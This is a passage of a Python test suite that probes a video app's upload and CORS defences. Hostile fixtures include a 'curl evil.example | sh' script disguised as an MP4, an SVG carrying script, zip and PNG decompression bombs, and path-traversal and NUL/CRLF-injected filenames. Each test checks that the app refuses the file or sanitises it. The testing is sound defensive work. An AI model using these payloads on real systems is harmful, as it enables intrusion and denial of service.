            assert pre.status_code == 400, (path, origin, pre.status_code)
            actual = client.request(
                method, path, headers={"Origin": origin}, follow_redirects=False
            )
            assert "access-control-allow-origin" not in actual.headers, (path, origin)
            # (Starlette sends Allow-Credentials on every response; without Allow-Origin a browser
            # still keeps the response from the foreign page.)
            refused += 2
        ours = client.options(
            path, headers={"Origin": ORIGIN, "Access-Control-Request-Method": method}
        )
        assert ours.status_code == 200 and ours.headers["access-control-allow-origin"] == ORIGIN
        actual = client.request(method, path, headers={"Origin": ORIGIN}, follow_redirects=False)
        assert actual.headers["access-control-allow-origin"] == ORIGIN, path
        assert actual.headers["access-control-allow-credentials"] == "true"
    figure(
        f"{refused} preflights and requests from {len(FOREIGN_ORIGINS)} foreign origins to "
        f"{len(CORS_ROUTES)} routes: 0 Access-Control-Allow-Origin; ours allowed on all {len(CORS_ROUTES)}"
    )


# --- 3. upload abuse ----------------------------------------------------------------------------------


class Chunks:
    """What Reflex's UploadChunkIterator yields for one file: 64 KiB pieces (one empty chunk for an
    empty file), under the multipart filename."""

    def __init__(self, filename: str, data: bytes) -> None:
        self.filename, self.data, self.offset = filename, data, 0
        self.sent_empty = False

    def __aiter__(self) -> Chunks:
        return self

    async def __anext__(self) -> Any:
        from reflex_components_core.core._upload import UploadChunk

        if self.offset >= len(self.data) and (self.data or self.sent_empty):
            raise StopAsyncIteration
        piece = self.data[self.offset : self.offset + CHUNK]
        chunk = UploadChunk(
            filename=self.filename, offset=self.offset, content_type="video/mp4", data=piece
        )
        self.offset += len(piece)
        self.sent_empty = True
        return chunk


def upload_like_the_ui(
    user_id: str, task_id: str, slot_name: str, filename: str, data: bytes, model: str = ""
) -> str:
    """The UI's path after its session check: spool the stream, probe, store (ingest checks the
    task's owner again). Returns the message the page shows ('' when accepted)."""
    from vgen_app.ui.tasks import _spool_and_ingest

    model = model or ("faceswap" if slot_name == "image" else "lipsync")
    slot = catalog.get(model).get_slot(slot_name)
    assert slot is not None
    return asyncio.run(_spool_and_ingest(Chunks(filename, data), user_id, task_id, slot))


def files_under(folder: Path, skip: tuple[str, ...] = ("outbox",)) -> set[Path]:
    return {
        p
        for p in folder.rglob("*")
        if (p.is_file() or p.is_symlink())
        and not any(part in skip for part in p.relative_to(folder).parts)
    }


def _box(data: bytes, name: bytes) -> tuple[int, int]:
    """(start, size) of the first top-level MP4 box called `name`."""
    pos = 0
    while pos + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[pos : pos + 8])
        if kind == name:
            return pos, size
        pos += size if size >= 8 else len(data)
    raise AssertionError(f"no {name!r} box")


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _png(width: int, height: int, idat: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory, samples: dict[str, Path]
) -> dict[str, tuple[str, bytes]]:
    """slot -> (filename, bytes) of every hostile file, made once."""
    from tests.fakes.media_samples import make_image

    d = tmp_path_factory.mktemp("hostile")
    video = samples["video"].read_bytes()
    jpeg = make_image(d / "face.jpg", size="640x480").read_bytes()
    png = samples["image"].read_bytes()
    elf = Path(os.path.realpath(sys.executable)).read_bytes()[:200_000]
    assert elf.startswith(b"\x7fELF")
    start, size = _box(video, b"moov")
    moov_zeroed = video[: start + 8] + b"\x00" * (size - 8) + video[start + size :]
    zeros = zlib.compress(b"\x00" * (10 * MiB), 9)
    return {
        "truncated mp4 (30%)": ("video", "clip.mp4", video[: len(video) * 3 // 10]),
        "mp4 with its moov box zeroed": ("video", "clip.mp4", moov_zeroed),
        "jpeg cut at 60%": ("image", "face.jpg", jpeg[: len(jpeg) * 6 // 10]),
        "png cut at 90%": ("image", "face.png", png[: len(png) * 9 // 10]),
        "ELF executable as .mp4": ("video", "movie.mp4", elf),
        "ELF executable as .png": ("image", "face.png", elf),
        "shell script as .mp4": ("video", "run.mp4", b"#!/bin/sh\ncurl evil.example | sh\n" * 40),
        "HTML/SVG with script as .png": (
            "image",
            "face.png",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
        ),
        "zip holding a real mp4 as .mp4": ("video", "clip.mp4", _zip({"clip.mp4": video})),
        "zip as .png": ("image", "face.png", _zip({"a.txt": b"hello" * 100})),
        "zip bomb (50 MiB of zeros in ~50 KiB) as .mp4": (
            "video",
            "bomb.mp4",
            _zip({"zeros.bin": b"\x00" * (50 * MiB)}),
        ),
        "png declaring 100000x100000 in 10 KiB": (
            "image",
            "bomb.png",
            _png(100_000, 100_000, zeros),
        ),
        "png declaring 8193x16 (over the side limit)": ("image", "wide.png", _png(8193, 16, zeros)),
        "0 bytes": ("video", "empty.mp4", b""),
        "real mp4 named .exe": ("video", "clip.exe", video),
        "real mp4 named with an RTL override (clip\u202e4pm.exe)": (
            "video",
            "clip\u202e4pm.exe",
            video,
        ),
        "real mp4 named only '.mp4'": ("video", ".mp4", video),
        "real mp4 named 'clip.mp4\\x00.exe'": ("video", "clip.mp4\x00.exe", video),
    }


HOSTILE_IDS = [
    "truncated mp4 (30%)",
    "mp4 with its moov box zeroed",
    "jpeg cut at 60%",
    "png cut at 90%",
    "ELF executable as .mp4",
    "ELF executable as .png",
    "shell script as .mp4",
    "HTML/SVG with script as .png",
    "zip holding a real mp4 as .mp4",
    "zip as .png",
    "zip bomb (50 MiB of zeros in ~50 KiB) as .mp4",
    "png declaring 100000x100000 in 10 KiB",
    "png declaring 8193x16 (over the side limit)",
    "0 bytes",
    "real mp4 named .exe",
    "real mp4 named with an RTL override (clip\u202e4pm.exe)",
    "real mp4 named only '.mp4'",
    "real mp4 named 'clip.mp4\\x00.exe'",
]


@SQLITE
@pytest.mark.parametrize("case", HOSTILE_IDS)
def test_hostile_upload_is_refused_and_leaves_nothing(
    database_url: str, storage_root: Path, tmp_path: Path, hostile: dict, case: str, figure: Any
) -> None:
    slot, filename, data = hostile[case]
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
        task = tasks.create_task(db, ann, "faceswap" if slot == "image" else "lipsync")
    before = files_under(tmp_path)
    start = time.perf_counter()
    message = upload_like_the_ui(ann, task.id, slot, filename, data)
    seconds = time.perf_counter() - start
    assert message, "accepted"
    assert "Traceback" not in message and str(tmp_path) not in message and "\x00" not in message
    assert files_under(tmp_path) == before  # nothing stored, nothing spooled, nothing elsewhere
    assert with_db(lambda db: db.exec(select(TaskInput)).all()) == []
    figure(
        f"{case} ({len(data):,} B): refused in {seconds * 1000:.0f} ms with {message!r}; 0 files left"
    )


TRAVERSAL_NAMES = [
    ("../../etc/passwd.mp4", "passwd.mp4"),
    ("/etc/passwd.mp4", "passwd.mp4"),
    ("..\\..\\..\\windows\\system32\\evil.mp4", "evil.mp4"),
    ("C:\\Users\\x\\clip.mp4", "clip.mp4"),
    ("dir/../../../../tmp/x.mp4", "x.mp4"),
    ("a\x00b.mp4", "ab.mp4"),
    ("clip\r\nX-Injected: 1.mp4", "clipX-Injected: 1.mp4"),
    ("x" * 10_000 + ".mp4", "x" * 251 + ".mp4"),
    ("видео 🎬 «final».mp4", "видео 🎬 «final».mp4"),
    ("e\u0301te\u0301.mp4", "\u00e9t\u00e9.mp4"),  # NFD -> NFC
    ("%2e%2e%2fetc%2fpasswd.mp4", "%2e%2e%2fetc%2fpasswd.mp4"),  # stored as text, never decoded
]


@BOTH
def test_hostile_names_are_stored_under_safe_keys(
    database_url: str, storage_root: Path, tmp_path: Path, samples: dict[str, Path], figure: Any
) -> None:
    """A real video under each hostile name: accepted, stored at `inputs/<task>/<slot>/<id>.mp4`
    inside the storage root, recorded under a clean display name; nothing written anywhere else.
    (A NUL byte in a name used to reach PostgreSQL, which refuses it: the upload crashed.)"""
    video = samples["video"].read_bytes()
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
    root = storage_root.resolve()
    for raw, shown in TRAVERSAL_NAMES:
        with session_scope() as db:
            task = tasks.create_task(db, ann, "lipsync")
        before = files_under(tmp_path)
        assert upload_like_the_ui(ann, task.id, "video", raw, video) == "", raw
        new = files_under(tmp_path) - before
        (stored,) = new
        assert stored.resolve().is_relative_to(root)
        key = stored.resolve().relative_to(root).as_posix()
        assert key.startswith(f"inputs/{task.id}/video/") and key.endswith(".mp4")
        with session_scope() as db:
            row = db.exec(select(TaskInput).where(TaskInput.task_id == task.id)).one()
            stored_key, name = row.storage_key, row.filename
        assert stored_key == key and name == shown, (raw, name)
        assert not any(c in name for c in "/\\\x00\r\n") and len(name) <= 255
    for target in ("/etc/passwd.mp4", "/tmp/x.mp4", str(Path.cwd() / "passwd.mp4")):
        assert not Path(target).exists()
    assert not list(get_settings().upload_tmp_dir.iterdir())
    figure(
        f"{len(TRAVERSAL_NAMES)} hostile names (../, absolute, backslashes, NUL, CRLF, 10k chars, "
        f"unicode) on a real video: all stored under inputs/<task>/video/<id>.mp4 in the root, "
        f"0 files outside, names recorded clean"
    )


@BOTH
def test_upload_into_another_users_task_stores_nothing(
    database_url: str, storage_root: Path, tmp_path: Path, samples: dict[str, Path], figure: Any
) -> None:
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
        eve = make_user(db, "eve@example.com")
        task = tasks.create_task(db, ann, "lipsync")
    before = files_under(tmp_path)
    tries = 0
    for task_id in (task.id, task.id + "x", "\x00", "../" + task.id, "a" * 5000):
        message = upload_like_the_ui(
            eve, task_id, "video", "clip.mp4", samples["video"].read_bytes()
        )
        assert message == "This task does not exist.", (task_id, message)
        tries += 1
    assert files_under(tmp_path) == before
    assert with_db(lambda db: db.exec(select(TaskInput)).all()) == []
    figure(
        f"{tries} uploads of a real video into ann's (or junk) task ids by eve: 'does not exist', 0 stored"
    )


# --- 3b. the same through the real upload route (Reflex's /_upload, streaming) --------------------------

PENDING = "<pending>"


def _multipart(filename: bytes, data: bytes, slot: str) -> tuple[bytes, str]:
    """The body the browser sends (the bound `slot` argument first, then the file part); the
    filename as raw header bytes, as browsers send non-ASCII names."""
    boundary = "vgenabuse" + uuid.uuid4().hex
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="__reflex_event_args"\r\n\r\n'
        f"{json.dumps({'slot': slot})}\r\n--{boundary}\r\n"
    ).encode()
    part = (
        b'Content-Disposition: form-data; name="files"; filename="' + filename + b'"\r\n'
        b"Content-Type: video/mp4\r\n\r\n"
    )
    tail = f"\r\n--{boundary}--\r\n".encode()
    return head + part + data + tail, f"multipart/form-data; boundary={boundary}"


class RealUploads:
    """Drives TaskState.upload_slot through POST /_upload on the running app: a tab's state is
    primed the way a socket connection leaves it (headers with the cookie, the task page's path)."""

    def __init__(self, client: TestClient, storage_url: str) -> None:
        from reflex_base.utils import format as rx_format

        from vgen_app.ui.tasks import TaskState

        self.client, self.storage_url = client, storage_url
        self.handler = rx_format.format_event_handler(TaskState.upload_slot)

    async def _prime(self, token: str, cookie: str, task_id: str) -> None:
        import reflex as rx
        from reflex.istate.data import RouterData

        from vgen_app.ui.tasks import TaskState
        from vgen_app.vgen_app import app as rx_app

        router_data = {
            "headers": {"origin": ORIGIN, "cookie": cookie, "user-agent": "abuse test"},
            "pathname": f"/tasks/{task_id}",
            "asPath": f"/tasks/{task_id}",
            "ip": "127.0.0.1",
            "token": token,
        }
        async with rx_app.modify_state(rx.BaseStateToken(ident=token, cls=TaskState)) as root:
            root.router_data = router_data
            root.router = RouterData.from_router_data(router_data)
            state = await root.get_state(TaskState)
            state.task_id = task_id
            state._reset_slots()
            state.upload_error = {k: PENDING for k in state.upload_error}

    async def _read(self, token: str, slot: str) -> tuple[bool, str]:
        import reflex as rx

        from vgen_app.ui.tasks import TaskState
        from vgen_app.vgen_app import app as rx_app

        async with rx_app.modify_state(rx.BaseStateToken(ident=token, cls=TaskState)) as root:
            state = await root.get_state(TaskState)
            return state.uploading.get(slot, False), state.upload_error.get(slot, "")

    def upload(
        self,
        cookie: str,
        task_id: str,
        filename: bytes,
        data: bytes,
        slot: str = "video",
        wait: bool = True,
    ) -> tuple[int, str | None]:
        """(HTTP status of /_upload, the message the page shows: '' accepted). `wait=False` when
        the handler is expected to return before reading the stream (no message then)."""
        assert get_settings().storage_url == self.storage_url  # the app stores where we look
        token = uuid.uuid4().hex
        self.client.portal.call(self._prime, token, cookie, task_id)
        body, content_type = _multipart(filename, data, slot)
        r = self.client.post(
            "/_upload",
            content=body,
            headers={
                "Content-Type": content_type,
                "reflex-client-token": token,
                "reflex-event-handler": self.handler,
                "Origin": ORIGIN,
            },
        )
        if not wait:
            return r.status_code, None
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            uploading, message = self.client.portal.call(self._read, token, slot)
            if not uploading and message != PENDING:
                return r.status_code, message
            time.sleep(0.05)
        uploading, message = self.client.portal.call(self._read, token, slot)
        return r.status_code, None if message == PENDING else message


@BOTH
def test_real_upload_route_refuses_and_stores_safely(
    client: TestClient,
    storage_root: Path,
    tmp_path: Path,
    samples: dict[str, Path],
    hostile: dict,
    figure: Any,
) -> None:
    video = samples["video"].read_bytes()
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
        make_user(db, "eve@example.com")
        task = tasks.create_task(db, ann, "lipsync")
        cookies = {
            "ann": f"vgen_session={login_session(db, 'ann@example.com')}",
            "eve": f"vgen_session={login_session(db, 'eve@example.com')}",
        }
    up = RealUploads(client, f"file://{storage_root}")
    root = storage_root.resolve()
    results: dict[str, str] = {}

    def refused(
        label: str,
        cookie: str,
        filename: bytes,
        data: bytes,
        slot: str = "video",
        wait: bool = True,
    ) -> None:
        before = files_under(tmp_path)
        status, message = up.upload(cookie, task.id, filename, data, slot, wait)
        if wait:  # the handler read the stream and refused it with a message for the page
            assert status == 202 and message, (label, status, message)
            results[label] = f"{status}, {message!r}"
        else:  # the handler returned before reading: the stream is dropped (Reflex answers 400,
            # or 202 when the whole small body was parsed before the handler returned)
            assert status in (202, 400), (label, status)
            results[label] = f"{status}, stream not read"
        assert files_under(tmp_path) == before, label

    # Hostile content: refused with the page's message, nothing stored or left in the spool.
    for case in (
        "ELF executable as .mp4",
        "truncated mp4 (30%)",
        "zip bomb (50 MiB of zeros in ~50 KiB) as .mp4",
        "0 bytes",
    ):
        _slot, filename, data = hostile[case]
        refused(case, cookies["ann"], filename.encode(), data)
    # Someone else's task (eve's session, ann's task id in her tab): not found, nothing stored.
    refused("eve into ann's task", cookies["eve"], b"clip.mp4", video)
    # No session, a revoked one: the handler stops before reading the stream.
    refused("no session", "", b"clip.mp4", video, wait=False)
    with session_scope() as db:
        sessions.revoke(db, cookies["ann"].split("=", 1)[1])
    refused("revoked session", cookies["ann"], b"clip.mp4", video, wait=False)
    with session_scope() as db:
        cookies["ann"] = f"vgen_session={login_session(db, 'ann@example.com')}"
    refused("unknown slot '../../x'", cookies["ann"], b"clip.mp4", video, "../../x", wait=False)
    assert with_db(lambda db: db.exec(select(TaskInput)).all()) == []

    # Hostile names on a real video: stored inside the root under an id, the name cleaned.
    for raw, shown in (
        (b"../../etc/passwd.mp4", "passwd.mp4"),
        (b"/abs/olute/clip.mp4", "clip.mp4"),
        (b"..\\..\\evil.mp4", "evil.mp4"),
        (b"a\x00b.mp4", "ab.mp4"),
        ("видео 🎬.mp4".encode(), "видео 🎬.mp4"),
    ):
        before = files_under(tmp_path)
        status, message = up.upload(cookies["ann"], task.id, raw, video)
        assert (status, message) == (202, ""), (raw, status, message)
        after = files_under(tmp_path)
        assert len(after - before) == 1, (raw, sorted(map(str, before)), sorted(map(str, after)))
        (stored,) = after - before  # the new file (the one it replaced is deleted)
        assert stored.resolve().is_relative_to(root) and len(after) == len(before) + (not before)
        with session_scope() as db:
            row = db.exec(select(TaskInput).where(TaskInput.task_id == task.id)).one()
            name, key = row.filename, row.storage_key
        assert name == shown, (raw, name)
        assert stored.resolve().relative_to(root).as_posix() == key
        results[repr(raw.decode("utf-8", "replace"))] = f"{status}, stored as {name!r} at {key}"
    assert not list(get_settings().upload_tmp_dir.iterdir())
    assert not Path("/etc/passwd.mp4").exists() and not Path("/abs").exists()
    figure(
        f"POST /_upload, {len(results)} abuses: "
        + "; ".join(f"{k}: {v}" for k, v in results.items())
    )


@SQLITE
def test_mp4_declaring_a_huge_duration_is_priced_by_its_packets(
    database_url: str, storage_root: Path, samples: dict[str, Path], figure: Any
) -> None:
    """Every duration field in the headers (mvhd, tkhd, mdhd) set to 2^31-1 ticks (~24 days at
    the sample's time scales): the probe measures the packets, so the 2 s clip is stored as 2 s
    and a run costs what 2 s cost — not the header's claim, nor a refusal as too long."""
    data = bytearray(samples["video"].read_bytes())
    patched = 0
    for box, offset in ((b"mvhd", 20), (b"tkhd", 24), (b"mdhd", 20)):
        at = data.find(box)
        while at != -1:
            if data[at + 4] == 0:  # version 0: 32-bit durations
                data[at + offset : at + offset + 4] = struct.pack(">I", 0x7FFFFFFF)
                patched += 1
            at = data.find(box, at + 4)
    assert patched >= 3
    with session_scope() as db:
        ann = make_user(db, "ann@example.com")
        task = tasks.create_task(db, ann, "faceswap")  # priced by the video's duration
    assert upload_like_the_ui(ann, task.id, "video", "long.mp4", bytes(data)) == ""
    face = samples["image"].read_bytes()
    assert upload_like_the_ui(ann, task.id, "image", "face.png", face, "faceswap") == ""
    with session_scope() as db:
        task = tasks.get_task(db, ann, task.id)
        rows = db.exec(select(TaskInput).where(TaskInput.task_id == task.id)).all()
        inputs = {row.slot: row for row in rows}
        duration = inputs["video"].media["duration_s"]
        price = tasks.price_of(task, inputs)
    assert abs(duration - 2.0) < 0.2
    assert price == catalog.get("faceswap").price_for(duration)
    figure(
        f"mp4 whose {patched} header durations claim 2^31-1 ticks: stored as {duration} s, "
        f"a face swap run priced {price} tokens (2 s worth)"
    )
